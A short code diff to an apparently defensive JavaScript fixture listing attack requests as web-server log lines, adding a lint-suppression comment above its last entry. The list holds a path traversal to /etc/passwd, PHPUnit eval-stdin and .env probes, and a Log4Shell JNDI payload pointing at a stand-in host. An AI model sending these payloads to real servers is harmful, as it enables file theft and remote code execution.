@@ -67,6 +67,7 @@ const ATTACKS = [
   'GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" 403 199',
   'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 196',
   'GET /.env HTTP/1.1" 404 196',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
   'GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1" 404 196',
 ];
 
